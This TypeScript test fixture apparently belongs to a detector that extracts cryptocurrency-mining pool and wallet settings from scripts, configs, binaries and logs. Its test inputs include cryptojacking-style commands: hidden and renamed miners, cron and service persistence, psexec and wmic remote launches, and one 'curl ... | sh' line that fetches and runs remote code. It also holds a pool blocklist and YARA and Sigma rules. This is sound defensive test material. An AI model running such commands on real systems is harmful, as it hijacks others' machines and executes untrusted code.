import type { ExtractorCase, ExtractorFixture } from '../../../tests/fixture.ts';
import type { ArtifactKind } from '../../model/artifact.ts';
import type { MiningConfig, Pool } from '../../model/payloads.ts';
import { bitcoin, ether, inBinary, integrated, paymentId, stringHeap, wallet } from './samples.ts';

type Fires = ExtractorFixture['fires'][number];

function fires(
  name: string,
  kind: ArtifactKind,
  input: string | Uint8Array,
  pools: readonly Partial<Pool>[],
  more: Partial<MiningConfig> = {},
): Fires {
  // A fixture states only the fields that matter.
  const value = { ...more, pools: pools as Pool[] };
  return { name, kind, input, expect: [{ kind: 'mining-config', value }] };
}

function silent(name: string, kind: ArtifactKind, input: string): ExtractorCase {
  return { name, kind, input };
}

const host = 'xmr.pool.test';
const account = { login: wallet, wallet };

const perMiner: Fires[] = [
  fires(
    'a script that becomes the miner, with a pool of one word',
    'script',
    `#!/bin/sh\nexec nohup /dev/shm/xmrig -o pool:3333 -u ${wallet} &\n`,
    [{ host: 'pool', port: 3333, ...account }],
    { miner: 'xmrig', source: 'script' },
  ),
  fires(
    'XMRig with everything',
    'script',
    `nohup ./xmrig -a rx/0 -o ${host}:443 -u ${wallet}.w7 -p x --rig-id r1 --tls -k -t 4 --donate-level=1 >/dev/null 2>&1 &`,
    [{ host, port: 443, tls: true, login: `${wallet}.w7`, wallet, worker: 'w7', password: 'x', rigId: 'r1' }],
    { miner: 'xmrig', algorithm: 'rx/0', threads: 4, donateLevel: 1, source: 'script' },
  ),
  fires(
    'XMRig with -O and a plain login',
    'script',
    'xmrig --url=10.0.0.5:3333 -O somebody:secret --coin=monero\n',
    [{ host: '10.0.0.5', port: 3333, login: 'somebody', password: 'secret' }],
    { miner: 'xmrig', coin: 'monero' },
  ),
  fires(
    'several pools in their order',
    'script',
    `./xmrig-6.21.0 -o a.test:1111 -u ${wallet}.a -p 1 -o b.test:2222 -u ${integrated} -p 2`,
    [
      { host: 'a.test', port: 1111, worker: 'a', password: '1' },
      { host: 'b.test', port: 2222, wallet: integrated, paymentId, password: '2' },
    ],
    { miner: 'xmrig' },
  ),
  fires('a login before its pool', 'script', `./x -u ${wallet} -p y -o ${host}:80`, [
    { host, port: 80, ...account, password: 'y' },
  ]),
  fires('flags without blanks', 'script', `./x -o${host}:80 -u${wallet} -px -t2`, [{ host, port: 80, ...account }]),
  fires(
    'xmr-stak with TLS',
    'script',
    `xmr-stak --currency monero -O ${host}:5555 -u ${wallet} -p x -r rig --noUAC`,
    [{ host, port: 5555, tls: true, ...account, rigId: 'rig' }],
    { miner: 'xmr-stak', coin: 'monero' },
  ),
  ...[
    'sudo -u www-data ./x',
    'nice -n 19 ./x',
    'sudo -u www-data -E /tmp/x',
    'psexec \\\\10.0.0.4 -u admin -p Secret1 C:\\x.exe',
    'docker run -d -u 0 -p 80:80 -e A=1 --name w img/x:1',
    'sshpass -p pw ssh -o BatchMode=yes -p 22 root@10.0.0.9 ./x',
    'sudo -u xmrig ./xmrig --cpu-affinity 0x3',
  ].map((start) =>
    fires(`${start}, which has flags of its own`, 'script', `${start} -o ${host}:80 -u ${wallet} -p y\n`, [
      { host, port: 80, ...account, password: 'y' },
    ]),
  ),
  fires(
    'a property list',
    'config',
    `<array>\n\t<string>/tmp/x</string>\n\t<string>-o</string>\n\t<string>${host}:80</string>\n` +
      `\t<string>-u</string>\n\t<string>${wallet}</string>\n</array>\n`,
    [{ host, port: 80, ...account }],
  ),
  fires('nheqminer', 'script', `./nheqminer -l ${host}:3333 -u somebody.w -t 4`, [
    { host, port: 3333, login: 'somebody.w', worker: 'w' },
  ]),
  fires(
    'a process that WMI starts',
    'script',
    `wmic /node:10.0.0.9 process call create "C:\\x\\svc.exe -o ${host}:80 -u ${wallet} -p y"`,
    [{ host, port: 80, ...account, password: 'y' }],
  ),
  fires(
    'cpuminer',
    'script',
    `minerd -a cryptonight -o stratum+tcp://${host}:3333 -u ${wallet} -p x -t 2 -B`,
    [{ scheme: 'stratum+tcp', host, port: 3333, ...account }],
    { miner: 'cpuminer', algorithm: 'cryptonight', threads: 2 },
  ),
  fires(
    'ccminer',
    'script',
    `ccminer.exe -a x16r -o stratum+tcp://rvn.pool.test:3636 -u somebody.gpu0 -p c=RVN,mc=RVN`,
    [{ host: 'rvn.pool.test', login: 'somebody.gpu0', worker: 'gpu0', password: 'c=RVN,mc=RVN' }],
    { miner: 'ccminer', algorithm: 'x16r' },
  ),
  fires(
    'T-Rex',
    'script',
    `t-rex -a kawpow -o stratum+tcp://eth.pool.test:4444 -u ${ether} -w rig7 -p x`,
    [{ host: 'eth.pool.test', port: 4444, wallet: ether, worker: 'rig7', password: 'x' }],
    { miner: 't-rex', algorithm: 'kawpow' },
  ),
  fires(
    'lolMiner',
    'script',
    `lolMiner.exe --algo ETCHASH --pool etc.pool.test:5555 --user ${ether}.rig --tls on`,
    [{ host: 'etc.pool.test', port: 5555, tls: true, wallet: ether, worker: 'rig' }],
    { miner: 'lolminer', algorithm: 'ETCHASH' },
  ),
  fires(
    "GMiner, whose program is just called miner, so that it isn't named",
    'script',
    `./miner --algo ethash --server eth.pool.test --port 4444 --user ${ether} --ssl 1 --pass x`,
    [{ host: 'eth.pool.test', port: 4444, tls: true, wallet: ether, password: 'x' }],
    { algorithm: 'ethash' },
  ),
  fires(
    'NBMiner with two pools',
    'script',
    `nbminer -a kawpow -o ssl://a.pool.test:1234 -u ${ether}.r -o1 b.pool.test:4321 -u1 ${ether}.s`,
    [
      { scheme: 'ssl', host: 'a.pool.test', port: 1234, worker: 'r' },
      { host: 'b.pool.test', port: 4321, worker: 's' },
    ],
    { miner: 'nbminer' },
  ),
  fires(
    'SRBMiner-MULTI',
    'script',
    `SRBMiner-MULTI --disable-gpu --algorithm randomx --pool ${host}:3333 --wallet ${wallet} --password x --tls true`,
    [{ host, port: 3333, tls: true, ...account, password: 'x' }],
    { miner: 'srbminer-multi', algorithm: 'randomx' },
  ),
  fires(
    'PhoenixMiner',
    'script',
    `PhoenixMiner.exe -pool ssl://eth.pool.test:5555 -pool2 eth2.pool.test:4444 -wal ${ether} -worker rig1 -pass x -proto 3`,
    [
      { scheme: 'ssl', host: 'eth.pool.test', wallet: ether, worker: 'rig1' },
      { host: 'eth2.pool.test', port: 4444 },
    ],
    { miner: 'phoenixminer' },
  ),
  fires(
    'TeamRedMiner',
    'script',
    `./teamredminer -a etchash -o stratum+tcp://etc.pool.test:1010 -u ${ether}.trm -p x`,
    [{ host: 'etc.pool.test', port: 1010, wallet: ether, worker: 'trm' }],
    { miner: 'teamredminer' },
  ),
  fires(
    'cgminer',
    'script',
    `cgminer -o stratum+tcp://btc.pool.test:3333 -u ${bitcoin}.ant -p 123 --api-listen`,
    [{ host: 'btc.pool.test', wallet: bitcoin, worker: 'ant', password: '123' }],
    { miner: 'cgminer' },
  ),
  fires(
    'ethminer with the account in the URL',
    'script',
    `ethminer -G -P stratum1+ssl://${ether}.rig@eth.pool.test:5555`,
    [{ scheme: 'stratum1+ssl', host: 'eth.pool.test', tls: true, wallet: ether, worker: 'rig' }],
    { miner: 'ethminer' },
  ),
];

const places: Fires[] = [
  fires(
    'a container, with flags before the image',
    'script',
    `docker run -d --restart always metal3d/xmrig:latest -o ${host}:80 -u ${wallet}`,
    [{ host, port: 80, ...account }],
    { miner: 'xmrig' },
  ),
  fires(
    'a shell before the miner',
    'script',
    `sudo -E sh -c "nice -n 19 /tmp/xmrig -o ${host}:80 -u ${wallet}"`,
    [{ host, port: 80, ...account }],
    { miner: 'xmrig' },
  ),
  fires(
    "a renamed miner, which only its wallet gives away, so no miner's name",
    'script',
    `cd /tmp/.x && ./kswapd0 -o 192.0.2.4:3333 -u ${wallet} -k`,
    [{ host: '192.0.2.4', port: 3333, ...account }],
  ),
  fires(
    'variables of a shell; the host name that it asks for is not known',
    'script',
    `#!/bin/sh\nWALLET=${wallet}; export POOL="${host}:4444"\n./x -o $POOL -u "\${WALLET}.$(hostname)" -p \${PASS:-x}\n`,
    [{ host, port: 4444, login: `${wallet}.$(hostname)`, wallet, password: 'x' }],
  ),
  {
    name: 'all arguments in one variable, where it is set and where it is used',
    kind: 'script',
    input: `ARGS="-o ${host}:80 -u ${wallet} -p x"\nwhile true; do pgrep -f kdev || ./xmrig $ARGS; sleep 60; done\n`,
    expect: [
      { kind: 'mining-config', value: { pools: [{ host, port: 80, ...account, password: 'x' }] } },
      { kind: 'mining-config', value: { miner: 'xmrig', pools: [{ host, port: 80, ...account, password: 'x' }] } },
    ],
  },
  fires(
    'a batch file',
    'script',
    `@echo off\r\nset WALLET=${wallet}\r\nset "POOL=${host}:9"\r\nstart "" /B "C:\\Program Files\\n\\xmrig.exe" -o %POOL% ^\r\n  -u %wallet%.%COMPUTERNAME% -k\r\n`,
    [{ host, port: 9, wallet, login: `${wallet}.%COMPUTERNAME%` }],
    { miner: 'xmrig' },
  ),
  fires(
    'PowerShell with a list of arguments',
    'script',
    `$w = "${wallet}"\nStart-Process -WindowStyle Hidden -FilePath $env:TEMP\\svc.exe -ArgumentList '-o','${host}:80','-u',$w,'-k'\n`,
    [{ host, port: 80, ...account }],
  ),
  fires(
    'a service unit with continued lines',
    'config',
    `[Service]\nExecStart=/bin/sh -c "nohup /opt/a -a rx/0 \\\n  -o ${host}:443 -u \\"${wallet}.w\\" --tls"\nRestart=always\n`,
    [{ host, port: 443, tls: true, wallet, worker: 'w' }],
    { source: 'argv', algorithm: 'rx/0' },
  ),
  fires(
    'a service unit with an environment',
    'config',
    `[Service]\nEnvironment="POOL=${host}:443"\nEnvironment=WALLET=${wallet}\nExecStart=/usr/bin/xmrig -o \${POOL} -u $WALLET\n`,
    [{ host, port: 443, ...account }],
    { miner: 'xmrig' },
  ),
  fires('a crontab', 'config', `@reboot pgrep kd || /tmp/.x/kd -o 192.0.2.1:80 -u ${wallet} -B\n`, [
    { host: '192.0.2.1', port: 80, ...account },
  ]),
  fires(
    'a crontab entry that a script writes',
    'script',
    `(crontab -l; echo '*/5 * * * * curl -s http://192.0.2.1/y | sh; /tmp/a -o ${host}:443 -u ${wallet}') | crontab -\n`,
    [{ host, port: 443, ...account }],
  ),
  fires(
    'a pod',
    'config',
    `spec:\n  containers:\n  - name: job\n    command: ["/bin/job"]\n    args: ["-o", "${host}:3333", "-u", "${wallet}", "-p", "x"]\n`,
    [{ host, port: 3333, ...account, password: 'x' }],
  ),
  fires(
    'a list with an item a line',
    'config',
    `args:\n  - --url\n  - ${host}:3333\n  - "--user"\n  - ${wallet}\n  - --pass=x\n`,
    [{ host, port: 3333, ...account, password: 'x' }],
  ),
  fires(
    "a Dockerfile's command over several lines of JSON",
    'config',
    `{\n "entrypoint": [\n  "/xmrig",\n  "-o",\n  "${host}:3333",\n  "-u",\n  "${wallet}"\n ]\n}\n`,
    [{ host, port: 3333, ...account }],
  ),
  fires(
    "a task of Windows' scheduler",
    'config',
    `<Exec><Command>C:\\a.exe</Command><Arguments>-o ${host}:3333 -u ${wallet} -p x</Arguments></Exec>`,
    [{ host, port: 3333, ...account, password: 'x' }],
  ),
  fires(
    'a script inside a string of another language',
    'source-code',
    `const s = "#!/bin/bash\\nWALLET=${wallet}\\n./x -o ${host}:3333 -u $WALLET -p x\\nsleep 1";`,
    [{ host, port: 3333, ...account, password: 'x' }],
  ),
  fires(
    'strings that a program joins',
    'source-code',
    `psi.Arguments = "-o " + "${host}:3333" + " -u " + "${wallet}" + " -p x";`,
    [{ host, port: 3333, ...account, password: 'x' }],
  ),
  fires('a program', 'executable', inBinary(`-o ${host}:3333 -u ${wallet} -p x`), [{ host, port: 3333, ...account }], {
    source: 'binary',
  }),
  fires(
    "a program's arguments one by one",
    'executable',
    inBinary(`./daemon\0-o\0${host}:3333\0\0\0-u\0${wallet}\0-p\0x\0`),
    [{ host, port: 3333, ...account, password: 'x' }],
  ),
  fires(
    'a .NET string heap with all in one string',
    'executable',
    stringHeap(['C:\\x\\service.exe', `-o xmr.pool.test:5615 -u ${integrated} -p KJU`, 'hello']),
    [{ host, port: 5615, wallet: integrated, paymentId, password: 'KJU' }],
    { source: 'binary' },
  ),
  fires(
    'a .NET string heap with a string for each, and no port',
    'executable',
    stringHeap(['hello', '-o ', host, ' -u ', integrated, ' -p ', 'KJU', 'other']),
    [{ host, wallet: integrated, paymentId, password: 'KJU' }],
  ),
  fires('/proc/PID/cmdline', 'data', `/usr/bin/x\0-o\0${host}:3333\0-u\0${wallet}\0`, [
    { host, port: 3333, ...account },
  ]),
  fires(
    'an audit log',
    'log',
    `type=EXECVE msg=audit(1.2:3): argc=5 a0="./x" a1="-o" a2="${host}:3333" a3="-u" a4="${wallet}"\n`,
    [{ host, port: 3333, ...account }],
    { source: 'argv' },
  ),
  fires(
    'a script that edits its account into a configuration',
    'script',
    `sed -i 's/"url": *"[^"]*",/"url": "gulf.pool.test:'10128'",/' $HOME/m/config.json\n` +
      `sed -i 's/"user": *"[^"]*",/"user": "'${wallet}'",/' $HOME/m/config.json\n` +
      `sed -i 's/"pass": *"[^"]*",/"pass": "'$PASS'",/' $HOME/m/config.json\n`,
    [{ host: 'gulf.pool.test', port: 10128, ...account }],
  ),
  fires(
    'P2Pool, which miners at its port are paid through',
    'config',
    `[Service]\nExecStart=/opt/p2pool/p2pool --host 127.0.0.1 --wallet ${wallet} --mini --stratum 127.0.0.1:3333\n`,
    [{ host: '127.0.0.1', port: 18081, ...account }],
    { miner: 'p2pool', coin: 'monero', source: 'argv' },
  ),
  fires(
    'P2Pool by its name alone, with nodes elsewhere',
    'script',
    `nohup p2pool --wallet ${wallet} --host node.test --rpc-port 18089 --host b.test &\n`,
    [{ host: 'node.test', port: 18089, ...account }],
    { miner: 'p2pool' },
  ),
  fires(
    "Monero's node, told to mine itself",
    'script',
    `#!/bin/sh\nmonerod --detach --start-mining ${wallet} --mining-threads 2\n`,
    [{ host: '127.0.0.1', port: 18081, ...account }],
    { miner: 'monerod' },
  ),
  fires(
    "a manual's example keeps its placeholder",
    'document',
    `    xmrig -o ${host}:3333 -u YOUR_WALLET_ADDRESS -p x`,
    [{ host, port: 3333, login: 'YOUR_WALLET_ADDRESS' }],
  ),
];

export const fixture: ExtractorFixture = {
  fires: [...perMiner, ...places],
  silent: [
    silent('curl', 'script', `curl -u user:secret -o out.txt https://xmrig.example/releases\n`),
    silent('curl to a wallet page', 'script', `curl -o 192.0.2.1:80 https://x.test/?a=${wallet}\n`),
    silent('ssh', 'script', `ssh -o ProxyCommand="nc proxy.test:3128" -u x xmrig@host.test # ${wallet}\n`),
    silent('gcc', 'script', `gcc -O2 -o xmrig -u main -a x.c -p\n`),
    silent('mysql', 'script', `mysql -u root -p -h db.test:3306 minerd -o\n`),
    silent('a killer of miners', 'script', `ps aux | grep -E "stratum|-o ${host}:443 -u ${wallet}" | xargs kill\n`),
    silent('a letter with an address', 'script', `sendemail -u "${bitcoin}" -o tls=yes -s smtp.test.org:587\n`),
    silent('a file and an address', 'script', `qrencode -o qr.png -u "${wallet}"\n`),
    silent('docker', 'script', `docker run -u root -p 8080:80 -a stdout xmrig-web\n`),
    silent('other programs with a pool of their own', 'script', `pgbench --pool db.test:5432 --user app xmrig\n`),
    silent(
      'a script that kills its rivals',
      'script',
      `pkill -f "xmrig -o pool.test:3333 -u ${wallet}"\n` +
        `ps aux | grep -v grep | grep -- '-o stratum+tcp://pool.test:80 -u ${wallet}' | awk '{print $2}' | xargs kill -9\n` +
        `iptables -A OUTPUT -p tcp -d pool.test:3333 -o eth0 -u stratum+tcp://\n`,
    ),
    silent('a comment', 'script', `# ./xmrig -o ${host}:3333 -u ${wallet} -p x\nREM xmrig -o ${host}:1 -u ${wallet}\n`),
    silent(
      "a miner's help",
      'text',
      'Usage: xmrig [OPTIONS]\n\nNetwork:\n  -o, --url=URL                 URL of mining server\n' +
        '  -a, --algo=ALGO               mining algorithm\n  -u, --user=USERNAME           username\n' +
        '  -p, --pass=PASSWORD           password\n  -O, --userpass=U:P            username:password pair\n' +
        '      --donate-level=N          donate level, default 1%\n',
    ),
    silent('a blocklist', 'blocklist', 'pool.minexmr.com:4444\nxmr.nanopool.org:14444\nstratum+tcp://pool.test:3333\n'),
    silent(
      'a YARA rule',
      'rules',
      `rule miner {\n strings:\n  $a = "stratum+tcp://"\n  $b = "-o pool" ascii\n  $c = "--donate-level" wide\n condition: 2 of them\n}\n`,
    ),
    silent(
      'a Sigma rule',
      'rules',
      `detection:\n  selection:\n    CommandLine|contains:\n      - ' --cpu-priority='\n      - '--donate-level=0'\n      - ' -o pool.'\n      - 'stratum+tcp://'\n  condition: selection\n`,
    ),
    silent(
      'a completion of a shell',
      'script',
      `complete -W "-o --url -u --user --donate-level --rig-id -p --pass" xmrig\n_xmrig() { COMPREPLY=( -o -u ); }\n`,
    ),
    silent('a port that is none', 'script', `xmrig -o ${host}:99999 -u ${wallet}\n`),
    silent('a pool that nobody wrote down', 'script', `xmrig -o $POOL -u ${wallet}\n`),
    silent('a pool without a login', 'script', `xmrig -o ${host}:3333 -k --donate-level 1\n`),
    silent('a plain login at some host by some program', 'script', `./tool -o ${host}:3333 -u somebody # xmrig\n`),
    silent("a wallet's own program", 'script', `monero-wallet-cli --wallet ${wallet} --daemon-host 127.0.0.1\n`),
    silent("Monero's node that does not mine", 'script', `monerod --detach --prune # ${wallet}\n`),
    silent('P2Pool as a service, and something else', 'script', `systemctl restart p2pool; x --wallet ${wallet}\n`),
    silent('P2Pool that is not told whom to pay', 'script', `p2pool --host 127.0.0.1 --wallet $WALLET\n`),
    silent('P2Pool that is looked for', 'script', `pgrep -f "p2pool --wallet ${wallet}"\n`),
    silent('a user of that name', 'script', `sudo -u p2pool x --wallet ${wallet}\n`),
    silent('P2Pool behind a remark', 'script', `# p2pool --wallet ${wallet} --mini\n`),
    silent('prose about a wallet', 'document', `We pay to ${wallet} at -o and don't use -u.\n`),
  ],
};
